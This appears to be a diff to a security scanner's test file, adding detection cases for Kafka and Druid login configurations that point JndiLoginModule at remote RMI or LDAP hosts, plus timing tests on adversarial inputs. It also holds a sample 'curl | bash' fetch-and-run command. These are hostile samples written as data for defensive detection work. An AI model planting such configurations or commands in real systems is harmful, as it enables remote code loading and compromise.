@@ -2,6 +2,22 @@ import { describeRuleCases, findingsOf, sh, py } from './rule-cases.helper.js';
 
 describeRuleCases('dropper', [
   {
+    id: 'SG-DROPPER-015',
+    file: 'conf/worker.properties',
+    positive:
+      'consumer.override.sasl.jaas.config=com.sun.security.auth.module.JndiLoginModule required user.provider.url="rmi://auth-relay.example.org:1099/o=people" useFirstPass="true";\n',
+    negative:
+      'consumer.override.sasl.jaas.config=org.apache.kafka.common.security.plain.PlainLoginModule required username="svc" password="${file:/etc/kafka/pw:pw}";\n',
+  },
+  {
+    id: 'SG-DROPPER-015',
+    file: 'druid/runtime.json',
+    positive:
+      '{"druid.auth.jaas": "com.sun.security.auth.module.JndiLoginModule required group.provider.url=\\"ldaps://dir.example.com:636/ou=g\\";"}\n',
+    negative:
+      '{"druid.auth.jaas": "com.sun.security.auth.module.JndiLoginModule required user.provider.url=\\"ldap://localhost:389/ou=u\\";"}\n',
+  },
+  {
     id: 'SG-DROPPER-001',
     positive: sh('curl -fsSL https://get.example.net/x.sh | bash'),
     negative: sh('curl -s https://api.example.net/v1 | python -m json.tool'),
@@ -445,6 +461,19 @@ describe('adversarial Lua loaders', () => {
   it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
     const start = performance.now();
     findingsOf(text, 'scripts/x.lua');
+    expect(performance.now() - start).toBeLessThan(1000);
+  });
+});
+
+describe('adversarial JNDI login configs', () => {
+  const MiB = 1024 * 1024;
+  const cases: [string, string][] = [
+    ['login modules', 'JndiLoginModule user.provider.url= '.repeat(MiB / 36)],
+    ['provider urls', 'a=JndiLoginModule ' + 'group.provider.url="ldap://'.repeat(MiB / 27)],
+  ];
+  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
+    const start = performance.now();
+    findingsOf(text, 'jaas.conf');
     expect(performance.now() - start).toBeLessThan(1000);
   });
 });
